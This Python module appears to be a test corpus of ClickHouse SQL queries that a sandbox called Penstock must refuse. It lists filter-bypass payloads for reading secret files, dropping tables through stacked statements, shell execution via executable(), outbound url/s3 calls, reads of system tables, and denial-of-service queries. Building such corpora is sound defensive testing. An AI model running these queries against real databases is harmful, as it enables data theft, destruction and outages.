"""Queries that must be refused or do no harm.

``@SECRET@`` is a file that holds the canary, ``@OUT@`` a folder that must stay empty, ``@URL@`` an address
that must not be called, ``@OTHER@`` a database that is not Penstock's and whose table ``secrets`` holds the
canary. One query a line, whatever its length.
"""

READS_FILES = """
SELECT file('@SECRET@')
SELECT FILE('@SECRET@')
SELECT File('@SECRET@')
SELECT `file`('@SECRET@')
SELECT "file"('@SECRET@')
SELECT/**/file/**/('@SECRET@')
SELECT "\\x66ile"('@SECRET@')
SELECT `f\\ile`('@SECRET@')
SELECT file('@SECRET@', 'x')
SELECT 1 WHERE file('@SECRET@') LIKE '%canary%'
SELECT 1 ORDER BY file('@SECRET@')
SELECT 1 GROUP BY file('@SECRET@')
SELECT 1 HAVING file('@SECRET@') != ''
SELECT 1 QUALIFY file('@SECRET@') != ''
SELECT 1 LIMIT length(file('@SECRET@'))
SELECT 1 LIMIT 1 BY file('@SECRET@')
SELECT 1 FROM samples PREWHERE file('@SECRET@') != ''
SELECT length(file('@SECRET@'))
SELECT (SELECT file('@SECRET@'))
SELECT * FROM (SELECT file('@SECRET@'))
SELECT 1 IN (SELECT length(file('@SECRET@')))
SELECT EXISTS(SELECT file('@SECRET@'))
WITH file('@SECRET@') AS x SELECT x
WITH x AS (SELECT file('@SECRET@')) SELECT * FROM x
WITH RECURSIVE r AS (SELECT file('@SECRET@') AS a UNION ALL SELECT a FROM r WHERE 0) SELECT * FROM r
WITH (x -> file(x)) AS f SELECT f('@SECRET@')
WITH (x -> x) AS file SELECT file('@SECRET@')
WITH file AS f SELECT f('@SECRET@')
WITH file AS f SELECT arrayMap(f, ['@SECRET@'])
SELECT arrayMap(x -> file(x), ['@SECRET@'])
SELECT arrayMap(file, ['@SECRET@'])
SELECT arrayMap(`file`, ['@SECRET@'])
SELECT ARRAYMAP(file, ['@SECRET@'])
SELECT arrayMap(FILE, ['@SECRET@'])
SELECT arraySort(file, ['@SECRET@'])
SELECT arrayFirst(x -> throwIf(1, file('@SECRET@')), [1])
SELECT arrayFilter(x -> file('@SECRET@') != '', [1])
SELECT arrayMax(file, ['@SECRET@'])
SELECT arrayFold((a, x) -> file(x), ['@SECRET@'], '')
SELECT mapApply((k, v) -> (k, file(v)), map('a', '@SECRET@'))
SELECT transform(1, [1], [file('@SECRET@')], '')
SELECT arrayReduce('max', [file('@SECRET@')])
SELECT if(1, file('@SECRET@'), '')
SELECT CASE WHEN 1 THEN file('@SECRET@') END
SELECT 1 ? file('@SECRET@') : ''
SELECT 'a' || file('@SECRET@')
SELECT CAST(file('@SECRET@') AS String)
SELECT file('@SECRET@')::String
SELECT throwIf(1, file('@SECRET@'))
SELECT * APPLY(file) FROM (SELECT '@SECRET@')
SELECT * APPLY file FROM (SELECT '@SECRET@')
SELECT * APPLY(FILE) FROM (SELECT '@SECRET@')
SELECT * APPLY(`file`) FROM (SELECT '@SECRET@')
SELECT * APPLY(x -> file(x)) FROM (SELECT '@SECRET@')
SELECT * APPLY(x -> concat('', file(x))) FROM (SELECT '@SECRET@')
SELECT * APPLY(toString) APPLY(file) FROM (SELECT '@SECRET@')
SELECT * APPLY(x -> (SELECT value FROM @OTHER@.secrets)) FROM (SELECT 1)
SELECT COLUMNS('.*') APPLY(file) FROM (SELECT '@SECRET@' AS a)
SELECT COLUMNS(a) APPLY(file) FROM (SELECT '@SECRET@' AS a)
SELECT t.* APPLY(file) FROM (SELECT '@SECRET@' AS a) AS t
SELECT t.COLUMNS('a') APPLY(file) FROM (SELECT '@SECRET@' AS a) AS t
SELECT 1 AS `{`, * APPLY(x -> file(x)) FROM (SELECT '@SECRET@')
SELECT 1 AS `{`, * APPLY(file) FROM (SELECT '@SECRET@' AS `}`)
SELECT 1 AS `(`, * APPLY(file) FROM (SELECT '@SECRET@')
SELECT apply, * APPLY(file) FROM (SELECT '@SECRET@' AS apply)
SELECT * EXCEPT(b) APPLY(file) FROM (SELECT '@SECRET@' AS a, 1 AS b)
SELECT * REPLACE(file('@SECRET@') AS a) FROM (SELECT '' AS a)
SELECT untuple(tuple('@SECRET@')) APPLY(file)
SELECT sum(length(file('@SECRET@'))) OVER ()
SELECT sum(1) OVER (ORDER BY file('@SECRET@'))
SELECT sum(1) OVER w WINDOW w AS (PARTITION BY file('@SECRET@'))
SELECT number AS n FROM numbers(3) ORDER BY n WITH FILL FROM 0 TO length(file('@SECRET@'))
SELECT number AS n, '' AS b FROM numbers(1) ORDER BY n WITH FILL TO 3 INTERPOLATE (b AS file('@SECRET@'))
SELECT 1 UNION ALL SELECT length(file('@SECRET@'))
SELECT '' EXCEPT SELECT file('@SECRET@')
SELECT a FROM (SELECT 1 AS a) ARRAY JOIN [file('@SECRET@')] AS b
SELECT 1 FROM samples AS a JOIN samples AS b ON file('@SECRET@') = a.node_id
SELECT * FROM file('@SECRET@')
SELECT * FROM file('@SECRET@', 'CSV')
SELECT * FROM FILE('@SECRET@', 'LineAsString')
SELECT * FROM `file`('@SECRET@', 'LineAsString')
SELECT * FROM fileCluster('default', '@SECRET@', 'LineAsString')
SELECT * FROM filesystem('/etc')
SELECT * FROM samples, file('@SECRET@', 'LineAsString')
SELECT * FROM samples LEFT JOIN file('@SECRET@', 'LineAsString') AS f ON 1 = 1
SELECT 1 IN (SELECT * FROM file('@SECRET@', 'LineAsString'))
SELECT * FROM view(SELECT file('@SECRET@'))
SELECT * FROM view(SELECT * FROM file('@SECRET@', 'LineAsString'))
SELECT * FROM viewIfPermitted(SELECT file('@SECRET@') ELSE null('a String'))
SELECT * FROM viewExplain('EXPLAIN', '', (SELECT file('@SECRET@')))
SELECT * FROM (EXPLAIN SELECT file('@SECRET@'))
SELECT * FROM loop(file('@SECRET@', 'LineAsString')) LIMIT 1
SELECT * FROM '@SECRET@'
SELECT * FROM `@SECRET@`
SELECT * FROM "@SECRET@"
SELECT 1 IN `@SECRET@`
SELECT * FROM sqlite('@SECRET@', 't')
SELECT * FROM executable('cat @SECRET@', 'TSV', 'a String')
SELECT * FROM executable('id', LineAsString, 'a String')
SELECT * FROM python('x')
SELECT * FROM Python(secret)
SELECT * FROM values('a String ALIAS file(\\'@SECRET@\\'), b UInt8', (1))
SELECT a FROM values('b UInt8, a String ALIAS file(\\'@SECRET@\\')', (1))
SELECT a FROM VALUES('b UInt8, a String alias file(\\'@SECRET@\\')', (1))
SELECT a FROM values('b UInt8, a String DEFAULT file(\\'@SECRET@\\')', (1, ''))
SELECT a FROM values('b UInt8, a String MATERIALIZED file(\\'@SECRET@\\')', (1))
SELECT a FROM values(concat('b UInt8, a String ALIAS ', 'file(\\'@SECRET@\\')'), (1))
SELECT a FROM values('a String', file('@SECRET@'))
SELECT a FROM values('a String', (file('@SECRET@')))
SELECT * FROM format('CSV', file('@SECRET@'))
SELECT * FROM input('a String')
SELECT * FROM eval('SELECT file(''@SECRET@'')')
SELECT * FROM generateRandom('a String ALIAS file(''@SECRET@'')') LIMIT 1
SELECT * FROM numbers(length(file('@SECRET@')))
SELECT * FROM node_state_as_of(t = file('@SECRET@'))
SELECT * FROM node_state_as_of(t = (SELECT file('@SECRET@')))
SELECT * FROM node_state_as_of(t = (SELECT max(length(line)) FROM file('@SECRET@', 'LineAsString')))
SELECT node_state_as_of(t = file('@SECRET@'))
SELECT * FROM @OTHER@.node_state_as_of(t = 1)
SELECT formatRow('Protobuf SETTINGS format_schema=''@SECRET@''', 1)
SELECT groupFormat('Template')(1)
SELECT arrayReduce('groupFormat(''Template'')', [1])
SELECT arrayReduce(concat('group', 'Format'), [1])
DESCRIBE TABLE file('@SECRET@')
DESCRIBE file('@SECRET@', 'CSV')
DESC (SELECT file('@SECRET@'))
DESCRIBE TABLE (SELECT * FROM file('@SECRET@', 'LineAsString'))
EXPLAIN SELECT file('@SECRET@')
EXPLAIN SYNTAX SELECT file('@SECRET@')
EXPLAIN QUERY TREE SELECT file('@SECRET@')
EXPLAIN PLAN actions = 1 SELECT file('@SECRET@')
EXPLAIN ESTIMATE SELECT file('@SECRET@')
EXPLAIN TABLE OVERRIDE mysql('127.0.0.1:1', 'a', 'b', 'c', 'd') COLUMNS (a Int8)
EXPLAIN AST EXPLAIN SELECT file('@SECRET@')
SHOW TABLES WHERE name = file('@SECRET@')
SHOW COLUMNS FROM samples WHERE field = file('@SECRET@')
SHOW INDEXES FROM samples WHERE table = file('@SECRET@')
"""

WRITES = """
SELECT 1 INTO OUTFILE '@OUT@/a'
SELECT 1 INTO OUTFILE '@OUT@/a' FORMAT CSV
SELECT 1 into/**/outfile '@OUT@/a'
SELECT 1 INTO OUTFILE '@OUT@/a' AND STDOUT
SELECT 1 INTO OUTFILE '@OUT@/a' TRUNCATE
SELECT 1 INTO OUTFILE '@OUT@/a' COMPRESSION 'gzip'
(SELECT 1) INTO OUTFILE '@OUT@/a'
SELECT 1 UNION ALL SELECT 2 INTO OUTFILE '@OUT@/a'
SHOW TABLES INTO OUTFILE '@OUT@/a'
SHOW DATABASES INTO OUTFILE '@OUT@/a'
SHOW CREATE TABLE samples INTO OUTFILE '@OUT@/a'
DESCRIBE samples INTO OUTFILE '@OUT@/a'
EXPLAIN SELECT 1 INTO OUTFILE '@OUT@/a'
EXPLAIN AST SELECT 1 INTO OUTFILE '@OUT@/a' FORMAT TSVRaw
EXISTS samples INTO OUTFILE '@OUT@/a'
INSERT INTO samples (node_id) VALUES ('forged')
INSERT INTO samples (node_id) SELECT 'forged'
INSERT INTO FUNCTION file('@OUT@/a', 'CSV', 'a String') SELECT 'x'
INSERT INTO TABLE FUNCTION url('@URL@', 'CSV', 'a String') SELECT 'x'
INSERT INTO samples FROM INFILE '@SECRET@' FORMAT CSV
WITH 'forged' AS x INSERT INTO samples (node_id) SELECT x
CREATE TABLE stolen (a Int8) ENGINE = Memory
CREATE TABLE stolen ENGINE = File(CSV, '@SECRET@') AS SELECT 1
CREATE TEMPORARY TABLE stolen (a Int8)
CREATE VIEW stolen AS SELECT file('@SECRET@')
CREATE MATERIALIZED VIEW stolen ENGINE = Memory AS SELECT 1
CREATE DATABASE stolen
CREATE FUNCTION stolen AS (x) -> file(x)
CREATE DICTIONARY stolen (a Int8) PRIMARY KEY a SOURCE(FILE(path '@SECRET@' format 'CSV')) LAYOUT(FLAT())
CREATE NAMED COLLECTION stolen AS a = 'b'
CREATE USER stolen
CREATE ROLE stolen
CREATE OR REPLACE TABLE samples (a Int8) ENGINE = Memory
REPLACE TABLE samples (a Int8) ENGINE = Memory
DROP TABLE samples
DROP TABLE IF EXISTS samples SYNC
DROP DATABASE @DB@
DETACH TABLE samples
DETACH TABLE samples PERMANENTLY
ATTACH TABLE samples
TRUNCATE TABLE samples
RENAME TABLE samples TO stolen
EXCHANGE TABLES samples AND samples
UNDROP TABLE samples
ALTER TABLE samples DELETE WHERE 1
ALTER TABLE samples UPDATE node_id = 'forged' WHERE 1
ALTER TABLE samples ADD COLUMN stolen Int8
ALTER TABLE samples FREEZE
ALTER TABLE samples DROP PARTITION tuple()
DELETE FROM samples WHERE 1
UPDATE samples SET node_id = 'forged' WHERE 1
OPTIMIZE TABLE samples FINAL
CHECK TABLE samples
BACKUP TABLE samples TO File('@OUT@/backup')
BACKUP DATABASE @DB@ TO Disk('default', 'x')
RESTORE TABLE samples FROM File('@OUT@/backup')
MOVE USER a TO local_directory
COPY samples TO '@OUT@/a'
SELECT 1; DROP TABLE samples
SELECT 1;DROP TABLE samples;
SELECT 1 /* ; */ ; DROP TABLE samples --
SELECT ';' ; TRUNCATE TABLE samples
SELECT 1; INSERT INTO samples (node_id) VALUES ('forged')
EXPLAIN SELECT 1; DROP TABLE samples
EXPLAIN DROP TABLE samples
EXPLAIN AST DROP TABLE samples
EXPLAIN SYNTAX INSERT INTO samples (node_id) SELECT 'forged'
EXPLAIN PLAN INSERT INTO samples (node_id) SELECT 'forged'
EXPLAIN CURRENT TRANSACTION
SELECT 1 PARALLEL WITH DROP TABLE samples
DROP TABLE samples PARALLEL WITH SELECT 1
SELECT 1 PARALLEL WITH SELECT 2
EXECUTE AS default SELECT 1
DROP FUNCTION IF EXISTS lower
SELECT generateSerialID('stolen')
SELECT logTrace('forged')
"""

ENDS_OR_CHANGES_THE_ENGINE = """
KILL QUERY WHERE 1
KILL QUERY WHERE 1 SYNC
KILL MUTATION WHERE 1
SYSTEM SHUTDOWN
SYSTEM KILL
SYSTEM RELOAD CONFIG
SYSTEM STOP MERGES
SYSTEM FLUSH LOGS
SYSTEM DROP MARK CACHE
SYSTEM ENABLE FAILPOINT x
SET readonly = 0
SET max_execution_time = 0
SET allow_introspection_functions = 1
SET ROLE ALL
USE @OTHER@
USE system
GRANT ALL ON *.* TO default
REVOKE ALL ON *.* FROM default
BEGIN TRANSACTION
COMMIT
ROLLBACK
SET TRANSACTION SNAPSHOT 1
SELECT 1 SETTINGS readonly = 0
SELECT 1 SETTINGS max_execution_time = 0
SELECT 1 SETTINGS limit = 0
SELECT * FROM numbers(1000000) SETTINGS limit = 0
SELECT * FROM numbers(1000000) SETTINGS limit = 0, offset = 0
SELECT * FROM (SELECT * FROM numbers(1000000) SETTINGS limit = 0) SETTINGS offset = 0
SELECT 1 AS settings SETTINGS limit = 0
SELECT * FROM numbers(9) AS settings LIMIT 1 SETTINGS `limit` = 0
SELECT * FROM numbers(3) SETTINGS max_result_rows = 0, max_threads = 64
SELECT * FROM (SELECT 1 SETTINGS max_memory_usage = 0)
WITH x AS (SELECT 1 SETTINGS max_memory_usage = 0) SELECT * FROM x
SELECT 1 UNION ALL (SELECT 2 SETTINGS max_memory_usage = 0)
SELECT 1 IN (SELECT 1 SETTINGS max_memory_usage = 0)
SELECT 1 SETTINGS format_schema = '@SECRET@', format_template_row = '@SECRET@' FORMAT Template
SELECT 1 SETTINGS additional_table_filters = {'samples': 'file(\\'@SECRET@\\') = 1'}
SELECT 1 SETTINGS allow_experimental_eval_table_function = 1
EXPLAIN SELECT 1 SETTINGS max_memory_usage = 0
DESCRIBE samples SETTINGS describe_include_subcolumns = 1
SHOW TABLES SETTINGS max_memory_usage = 0
SELECT 1 FORMAT CSV
SELECT 1 FORMAT Null
SELECT 1 FORMAT Template
SHOW TABLES FORMAT CSV
SHOW PROCESSLIST
SHOW GRANTS
SHOW ACCESS
SHOW USERS
SHOW ROLES
SHOW POLICIES
SHOW QUOTAS
SHOW PROFILES
SHOW SETTINGS LIKE '%'
SHOW SETTING readonly
SHOW CREATE USER default
SHOW CREATE DATABASE @OTHER@
SHOW CREATE TABLE @OTHER@.secrets
SHOW CREATE TABLE system.query_log
SHOW CLUSTERS
SHOW CLUSTER 'default'
SHOW ENGINES
SHOW FILESYSTEM CACHES
SHOW DICTIONARIES
SHOW MERGES
SHOW TABLES FROM @OTHER@
SHOW COLUMNS FROM secrets FROM @OTHER@
SHOW COLUMNS FROM @OTHER@.secrets
SHOW INDEXES FROM @OTHER@.secrets
SHOW COLUMNS FROM query_log FROM system
"""

REACHES_OUT = """
SELECT * FROM url('@URL@', 'CSV')
SELECT * FROM url('@URL@', LineAsString, 'a String')
SELECT * FROM URL('@URL@', 'CSV', 'a String')
SELECT * FROM urlCluster('default', '@URL@', 'CSV', 'a String')
SELECT * FROM s3('@URL@/b/k', 'CSV', 'a String')
SELECT * FROM s3('@URL@/b/k', NOSIGN, 'CSV')
SELECT * FROM s3Cluster('default', '@URL@/b/k', 'CSV', 'a String')
SELECT * FROM gcs('@URL@/b/k', 'CSV', 'a String')
SELECT * FROM oss('@URL@/b/k', 'CSV', 'a String')
SELECT * FROM cosn('@URL@/b/k', 'CSV', 'a String')
SELECT * FROM hdfs('hdfs://127.0.0.1:@PORT@/a', 'CSV', 'a String')
SELECT * FROM hdfsCluster('default', 'hdfs://127.0.0.1:@PORT@/a', 'CSV', 'a String')
SELECT * FROM azureBlobStorage('@URL@', 'c', 'b', 'a', 'a2V5', 'CSV')
SELECT * FROM deltaLake('@URL@/b/k')
SELECT * FROM deltaLakeLocal('@SECRET@')
SELECT * FROM hudi('@URL@/b/k')
SELECT * FROM iceberg('@URL@/b/k')
SELECT * FROM icebergLocal('/etc')
SELECT * FROM paimon('@URL@/b/k')
SELECT * FROM remote('127.0.0.1:@PORT@', 'a', 'b')
SELECT * FROM remote('127.0.0.1', system.one)
SELECT * FROM remote('localhost', @OTHER@.secrets)
SELECT * FROM remoteSecure('127.0.0.1:@PORT@', 'a', 'b')
SELECT * FROM cluster('default', system.one)
SELECT * FROM clusterAllReplicas('default', @OTHER@.secrets)
SELECT * FROM mysql('127.0.0.1:@PORT@', 'a', 'b', 'c', 'd')
SELECT * FROM postgresql('127.0.0.1:@PORT@', 'a', 'b', 'c', 'd')
SELECT * FROM mongodb('127.0.0.1:@PORT@', 'a', 'b', 'c', 'd', 'e String')
SELECT * FROM redis('127.0.0.1:@PORT@', 'k', 'k String, v String')
SELECT * FROM jdbc('x', 'a', 'b')
SELECT * FROM odbc('x', 'a', 'b')
SELECT * FROM bigquery('a', 'b', 'c')
SELECT * FROM ytsaurus('@URL@', '//a', 'b', 'c String')
SELECT * FROM arrowstream('127.0.0.1:@PORT@')
SELECT * FROM prometheusQuery('a', 'b', 1)
SELECT 1 IN (SELECT * FROM url('@URL@', LineAsString, 'a String'))
SELECT (SELECT * FROM url('@URL@', LineAsString, 'a String'))
DESCRIBE url('@URL@', 'CSV')
EXPLAIN SELECT * FROM url('@URL@', 'CSV')
SELECT aiGenerate('x')
SELECT AIGenerate('a', 'x')
SELECT showCertificate()
SELECT dictGet('@OTHER@.d', 'v', 1)
SELECT dictGetOrNull('d', 'v', 1)
SELECT dictHas('d', 1)
SELECT * FROM dictionary('d')
SELECT regionToName(1)
SELECT joinGet('@OTHER@.secrets', 'value', 1)
SELECT joinGetOrNull('@OTHER@.secrets', 'value', 1)
SELECT catboostEvaluate('@SECRET@', 1)
SELECT evalMLMethod(1, 2)
SELECT decrypt('aes-128-ecb', 'a', 'b')
"""

READS_WHAT_IS_NOT_PENSTOCKS = """
SELECT * FROM @OTHER@.secrets
SELECT * FROM `@OTHER@`.`secrets`
SELECT * FROM "@OTHER@"."secrets"
SELECT * FROM @OTHER@/**/./**/secrets
SELECT value FROM @OTHER@.secrets AS samples
SELECT * FROM samples, @OTHER@.secrets
SELECT * FROM samples JOIN @OTHER@.secrets ON 1 = 1
SELECT (SELECT value FROM @OTHER@.secrets)
SELECT 'canary' IN (SELECT value FROM @OTHER@.secrets)
SELECT 'canary' IN @OTHER@.secrets
SELECT 'canary' NOT IN @OTHER@.secrets
SELECT in('canary', @OTHER@.secrets)
SELECT nullIn('canary', @OTHER@.secrets)
SELECT 'canary' GLOBAL IN @OTHER@.secrets
SELECT arrayExists(x -> x IN @OTHER@.secrets, ['canary'])
WITH @OTHER@.secrets AS t SELECT 'canary' IN t
WITH t AS (SELECT * FROM @OTHER@.secrets) SELECT * FROM t
WITH RECURSIVE t AS (SELECT value FROM @OTHER@.secrets) SELECT * FROM t
SELECT * FROM merge('@OTHER@', '.*')
SELECT * FROM merge(REGEXP('.*'), '.*')
SELECT * FROM merge('system', 'one')
SELECT * FROM loop(@OTHER@.secrets) LIMIT 1
SELECT * FROM loop('@OTHER@', 'secrets') LIMIT 1
SELECT * FROM mergeTreeIndex('@OTHER@', 'secrets')
SELECT * FROM mergeTreeProjection('@OTHER@', 'secrets', 'p')
SELECT * FROM mergeTreeIndex(currentDatabase(), 'samples')
SELECT * FROM timeSeriesData('@OTHER@', 'secrets')
SELECT * FROM fuzzQuery('SELECT 1')
SELECT * FROM fuzzJSON('x', '{}')
SELECT * FROM null('a String')
SELECT * FROM samples UNION ALL SELECT value, now(), 1 FROM @OTHER@.secrets
SELECT * FROM view(SELECT * FROM @OTHER@.secrets)
DESCRIBE @OTHER@.secrets
DESCRIBE (SELECT * FROM @OTHER@.secrets)
EXPLAIN SELECT * FROM @OTHER@.secrets
EXISTS TABLE @OTHER@.secrets
EXISTS DATABASE @OTHER@
SELECT hasColumnInTable('@OTHER@', 'secrets', 'value')
SELECT * FROM {t:Identifier}
SELECT {f:Identifier}
SELECT * FROM system.processes
SELECT * FROM `system`.`processes`
SELECT * FROM SYSTEM.processes
SELECT * FROM system.query_log
SELECT * FROM system.users
SELECT * FROM system.settings
SELECT * FROM system.server_settings
SELECT * FROM system.named_collections
SELECT * FROM system.disks
SELECT * FROM system.errors
SELECT * FROM system.stack_trace
SELECT * FROM system.zookeeper WHERE path = '/'
SELECT * FROM system.parts
SELECT * FROM system.merges
SELECT * FROM system.text_log
SELECT * FROM system.environment
SELECT * FROM system.macros
SELECT * FROM system.clusters
SELECT * FROM system.dictionaries
SELECT * FROM system.certificates
SELECT * FROM system.remote_data_paths
SELECT * FROM system.user_processes
SELECT * FROM system.asynchronous_metrics
SELECT 1 IN system.numbers_mt
SELECT getSetting('readonly')
SELECT getSettingOrDefault('x', 1)
SELECT getServerSetting('path')
SELECT getMergeTreeSetting('index_granularity')
SELECT getMacro('x')
SELECT getServerPort('http_port')
SELECT tcpPort()
SELECT hostName()
SELECT hostname()
SELECT FQDN()
SELECT fqdn()
SELECT serverUUID()
SELECT uptime()
SELECT buildId()
SELECT getOSKernelVersion()
SELECT displayName()
SELECT filesystemAvailable()
SELECT filesystemCapacity()
SELECT currentUser()
SELECT user()
SELECT authenticatedUser()
SELECT currentRoles()
SELECT queryID()
SELECT initialQueryID()
SELECT connectionId()
SELECT getClientHTTPHeader('Authorization')
SELECT currentRequestURL()
SELECT globalVariable('version')
SELECT @@version
SELECT zookeeperSessionUptime()
SELECT addressToLine(1)
SELECT addressToSymbol(1)
SELECT demangle('x')
SELECT tid()
SELECT transactionID()
SELECT flameGraph(1)
SELECT obfuscateQuery('SELECT 1')
SELECT parseQueryToJSON('SELECT 1')
SELECT __getScalar('x')
SELECT icebergBucket(1, 2)
SELECT no_such_function(1)
SELECT arrayReduce('no_such_function', [1])
SELECT runningConcurrency(now(), now())
SELECT * APPLY(hostName) FROM (SELECT 1)
SELECT CAST(unhex('ffffffffffffffff') AS AggregateFunction(uniq, UInt64))
SELECT CAST('a', 'AggregateFunction(uniq, UInt64)')
SELECT CAST('a', concat('Aggregate', 'Function(uniq, UInt64)'))
SELECT 'a'::AggregateFunction(groupArray, String)
SELECT accurateCastOrNull('a', 'AggregateFunction(uniq, UInt64)')
SELECT JSONExtract('{}', 'a', 'AggregateFunction(uniq, UInt64)')
SELECT reinterpret('a', 'AggregateFunction(uniq, UInt64)')
SELECT finalizeAggregation(CAST('x' AS SimpleAggregateFunction(sum, UInt64)))
SELECT initializeAggregation('uniqState', 1)
"""

RUNS_FOR_EVER_OR_RETURNS_TOO_MUCH = """
SELECT sleep(3)
SELECT sleepEachRow(3) FROM numbers(100)
SELECT arrayMap(sleep, [3])
SELECT * FROM numbers(1000000000)
SELECT * FROM system.numbers
SELECT count() FROM system.numbers
SELECT count() FROM numbers(1000000000000000000)
SELECT max(cityHash64(number)) FROM numbers_mt(1000000000000000000)
SELECT sum(a.number) FROM numbers(1000000000) AS a, numbers(1000000000) AS b
SELECT number FROM numbers(1000000000) ORDER BY cityHash64(number)
SELECT cityHash64(number) AS x, count() FROM numbers(1000000000) GROUP BY x
SELECT groupArray(number) FROM numbers(10000000000)
SELECT uniqExact(number) FROM numbers(10000000000)
SELECT range(1000000000)
SELECT arrayJoin(range(500000000))
SELECT repeat('x', 10000000000)
SELECT arrayWithConstant(10000000000, 1)
SELECT length(arrayMap(x -> arrayMap(y -> arrayMap(z -> x + y + z, range(2000)), range(2000)), range(2000)))
SELECT randomPrintableASCII(10000000000)
SELECT space(10000000000)
SELECT leftPad('x', 10000000000, 'y')
SELECT * FROM zeros(1000000000000)
SELECT count() FROM zeros(1000000000000000)
SELECT * FROM primes() LIMIT 100000000000, 1
SELECT * FROM generateSeries(0, 1000000000000000000)
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count() FROM r
SELECT number FROM numbers(3) ORDER BY number WITH FILL FROM 0 TO 100000000000
SELECT replaceRegexpAll(repeat('a', 1000000), '(a+)+$', 'b')
SELECT extractAll(repeat('a', 100000), '(a|aa)+$')
SELECT quantilesExact(0.1, 0.5)(number) FROM numbers(100000000000)
SELECT * FROM samples AS a CROSS JOIN numbers(1000000000000) AS b
SELECT toString(number) FROM numbers_mt(1000000000000)
SELECT geohashesInBox(-180., -90., 180., 90., 12)
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))
"""

MALFORMED = """
SELECT
SELECT FROM WHERE
SELECT 'unfinished
SELECT `unfinished
SELECT /* unfinished
SELECT 1 FROM
;
;;
--
SELECT ſ(1)
SELECT ｆｉｌｅ('@SECRET@')
SELECT fi\u200ble('@SECRET@')
SELECT 1 \u0000
SELECT $$a$$, $x$file$x$
SELECT `a\\n   Function lower`
SELECT 1 AS `a\\x01b`
SELECT `lower (alias x`('a')
SELECT 'a' AS `x) (children 1)`, file('@SECRET@')
SELECT lower('\\n    Function file (children 1)') AS `\\n Set`
GARBAGE
DROP
SELECT 1 UNION
SELECT {x:String}
SELECT {x:Nonsense}
"""

FAMILIES = {
    "reads files": READS_FILES,
    "writes": WRITES,
    "ends or changes the engine": ENDS_OR_CHANGES_THE_ENGINE,
    "reaches out": REACHES_OUT,
    "reads what is not Penstock's": READS_WHAT_IS_NOT_PENSTOCKS,
    "runs for ever or returns too much": RUNS_FOR_EVER_OR_RETURNS_TOO_MUCH,
    "malformed": MALFORMED,
}


def attacks() -> list[tuple[str, str]]:
    """Return (family, query) of every attack, placeholders still in."""
    return [(family, line) for family, text in FAMILIES.items() for line in text.strip().split("\n") if line]
